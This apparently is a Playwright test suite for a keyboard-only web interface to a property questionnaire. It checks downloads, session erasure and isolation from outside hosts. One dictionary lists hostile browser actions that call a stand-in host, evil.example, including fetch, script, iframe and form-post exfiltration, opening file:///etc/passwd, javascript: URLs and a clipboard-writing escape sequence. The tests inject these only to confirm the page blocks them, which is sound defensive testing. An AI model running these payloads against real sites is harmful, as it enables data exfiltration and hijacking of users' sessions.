"""In Chromium: a whole visit by keyboard alone with its downloads; then every way out of the page."""

import os
import re
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.screens.person import sample_library

CHROMIUM = os.environ.get("CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
pytest.importorskip("aiohttp", reason="the extra 'web' is not installed")
playwright: Any = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium here")
LONG = 60_000  # milliseconds; a machine under load is slow, not broken
REMEMBER = """
window.drawn = "";
const Socket = window.WebSocket;
window.WebSocket = class extends Socket {
  constructor(...given) {
    super(...given);
    window.line = this;
    this.addEventListener("message", (event) => {
      if (typeof event.data !== "string") { window.drawn += new TextDecoder().decode(event.data); }
    });
  }
};
"""
"""What comes over the socket is kept, so that a test can read what is drawn on the canvas."""
ANSI = re.compile(r"\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)|\x1b[\[(<][0-9;?<>=$ ]*[@-~]|\x1b[@-_c]")


def free_port() -> int:
    with socket.socket() as found:
        found.bind(("127.0.0.1", 0))
        return int(found.getsockname()[1])


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """`guide serve` under a path, as behind a proxy."""
    home, port = tmp_path_factory.mktemp("served"), free_port()
    library = sample_library(home / "library")
    process = subprocess.Popen(
        [sys.executable, "-m", "guide", "serve", "--library", str(library), "-j", "riverbend-fl", "--port", str(port),
         "--prefix", "/desk", "--today", "2027-01-04"],
        cwd=home, env={**os.environ, "TMPDIR": str(home), "HOME": str(home)}, stderr=subprocess.PIPE,
    )  # fmt: skip
    try:
        end = time.monotonic() + 60
        while time.monotonic() < end:
            with socket.socket() as there:
                if there.connect_ex(("127.0.0.1", port)) == 0:
                    break
            time.sleep(0.1)
        yield f"http://127.0.0.1:{port}/desk/"
        left = [each for each in home.rglob("*") if each.is_file() and library not in each.parents]
        assert left == [], "the server wrote a file"
    finally:
        process.terminate()
        said = process.communicate(timeout=30)[1]
    assert b"Zqxjkvbwpy" not in said and b"Traceback" not in said


class Guest:
    """Somebody at a browser."""

    def __init__(self, page: Any, context: Any, asked: list[str]) -> None:
        self.page, self.context, self.asked = page, context, asked

    @property
    def words(self) -> str:
        return " ".join(ANSI.sub(" ", self.page.evaluate("window.drawn")).split())

    def until(self, *marks: str) -> "Guest":
        end = time.monotonic() + LONG / 1000
        while not all(mark in self.words for mark in marks):
            assert time.monotonic() < end, f"{marks} did not come: {self.words[-800:]}"
            time.sleep(0.05)
        return self

    def quiet(self) -> "Guest":
        """Until nothing more is drawn."""
        before, same, end = "", 0, time.monotonic() + LONG / 1000
        while same < 5 and time.monotonic() < end:
            time.sleep(0.1)
            now = self.words
            same = same + 1 if now == before and now else 0
            before = now
        return self

    def press(self, *keys: str) -> "Guest":
        self.page.evaluate("window.drawn = ''")
        for each in keys:
            self.page.keyboard.press(each)
        return self

    def type(self, text: str) -> "Guest":
        self.page.evaluate("window.drawn = ''")
        self.page.keyboard.type(text)
        self.page.keyboard.press("Enter")
        return self

    def to_the_question(self) -> "Guest":
        self.until("Kreyòl ayisyen", "OK").press("Enter").until("What do you want to do?")
        return self.press("Enter").until("Who is asking")


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as started:
        made = started.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield made
        made.close()


@pytest.fixture
def guest(browser: Any, address: str) -> Iterator[Guest]:
    """Somebody with a browser that remembers nothing of others."""
    context = browser.new_context(viewport={"width": 1000, "height": 700}, accept_downloads=True)
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=address.rpartition("/desk")[0])
    context.add_init_script(REMEMBER)
    page = context.new_page()
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    page.goto(address, timeout=LONG)
    page.wait_for_selector("body.-first-byte", timeout=LONG)
    yield Guest(page, context, asked)
    context.close()


def test_a_whole_visit_by_keyboard_alone(guest: Guest, address: str) -> None:
    guest.to_the_question().press("1").until("How much of the property")
    guest.type("80").until("Have all owners consented")
    guest.press("2").until("Who owns the land")
    guest.type("Zqxjkvbwpy").until("How large is the land")
    for _ in range(9):
        if "Finish" in guest.press("F4").quiet().words:
            break
    guest.press("e").until("What would you like?")
    with guest.page.expect_download(timeout=LONG) as got:
        guest.press("Enter")
    assert got.value.suggested_filename == "checklist.pdf"
    assert Path(got.value.path()).read_bytes().startswith(b"%PDF-")
    guest.until("downloading")
    with guest.page.expect_download(timeout=LONG) as got:
        guest.press("ArrowDown", "ArrowDown", "Enter")
    assert got.value.suggested_filename == "checklist.ics"
    assert Path(got.value.path()).read_bytes().startswith(b"BEGIN:VCALENDAR")
    guest.press("ArrowDown", "Enter").until("are being erased")
    guest.page.wait_for_selector("#again:focus", timeout=LONG)
    assert "This visit is over" in guest.page.inner_text("body")
    assert guest.page.evaluate("document.documentElement.lang") == "en"
    assert "Riverbend" in guest.page.title()
    assert "Zqxjkvbwpy" not in guest.page.title()
    guest.page.keyboard.press("Enter")  # start again: another program, with nothing of this visit
    guest.page.wait_for_selector("body.-first-byte", timeout=LONG)
    assert "Zqxjkvbwpy" not in guest.until("Kreyòl ayisyen").words
    home = address.rpartition("/desk")[0]
    ours = (home, home.replace("http", "ws"), "data:", "blob:")
    assert [url for url in guest.asked if not url.startswith(ours)] == []
    assert guest.page.evaluate("[localStorage.length, sessionStorage.length, document.cookie]") == [0, 0, ""]


WAYS: dict[str, str] = {
    "a link that is clicked": "window.open('https://evil.example/')",
    "a link to a file": "window.open('file:///etc/passwd')",
    "a link that runs": "window.open('javascript:alert(1)')",
    "a download of another address": "window.open('https://evil.example/download/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')",
    "a question that is nodded to": "window.confirm('x') && window.open('https://evil.example')",
    "a program that sends an address": "line.onmessage ? 0 : line.dispatchEvent(new MessageEvent('message', {data: "
    "'[\"open_url\", {\"url\": \"https://evil.example\", \"new_tab\": true}]'}))",
    "a program that writes the clipboard": "line.dispatchEvent(new MessageEvent('message', {data: "
    "new TextEncoder().encode('\\x1b]52;c;c2VjcmV0\\x07').buffer}))",
    "a marked text that is copied": "document.execCommand('selectAll'), document.execCommand('copy')",
    "a request to another server": "fetch('https://evil.example/').catch(() => 0)",
    "a picture of another server": "new Image().src = 'https://evil.example/x.png'",
    "a script of another server": "document.head.appendChild(Object.assign(document.createElement('script'), "
    "{src: 'https://evil.example/x.js'}))",
    "a script in the page": "document.head.appendChild(Object.assign(document.createElement('script'), "
    "{text: 'window.open = null'}))",
    "a page in the page": "document.body.appendChild(Object.assign(document.createElement('iframe'), "
    "{src: 'https://evil.example/'}))",
    "a form to another server": "document.body.appendChild(Object.assign(document.createElement('form'), "
    "{action: 'https://evil.example/', method: 'post'})).submit()",
    "a hostile message": "line.send('[\"stdin\", \"\\\\u001b[9999999;1u\"]')",
    "a hostile size": "line.send('[\"resize\", {\"width\": 1e9, \"height\": -1}]')",
}


def test_no_way_out_of_the_page(guest: Guest) -> None:
    guest.to_the_question()
    for name, way in WAYS.items():
        guest.page.evaluate(f"(() => {{ {way} }})()")
        guest.page.wait_for_timeout(60)
        assert len(guest.context.pages) == 1, name
        assert guest.page.url.endswith("/desk/"), name
    for keys in ("Control+c", "Control+q", "Control+z", "Control+p", "Control+x", "F5", "F9", "F12", "Escape"):
        guest.page.keyboard.press(keys)
    guest.quiet().page.keyboard.press("Escape")
    guest.page.mouse.click(30, 30)
    guest.page.mouse.click(30, 30, button="right")
    guest.page.wait_for_timeout(200)
    assert len(guest.context.pages) == 1
    assert guest.page.evaluate("navigator.clipboard.readText()") == ""
    outside = [url for url in guest.asked if "evil.example" in url]
    answered = guest.page.evaluate(
        "performance.getEntriesByType('resource').filter(e => e.name.includes('evil') && e.responseStatus).length"
    )
    assert answered == 0, outside
    guest.press("F1").until("What else can be done here")


def test_a_crafted_address_steers_nothing(guest: Guest, address: str) -> None:
    guest.asked.clear()
    guest.page.goto(address + "?ping=https://evil.example/&delay=1&fontsize=9999", timeout=LONG)
    guest.page.wait_for_selector("body.-first-byte", timeout=LONG)
    guest.until("Kreyòl ayisyen")
    assert not [url for url in guest.asked if url.startswith("https://evil")]
    assert guest.page.url == address
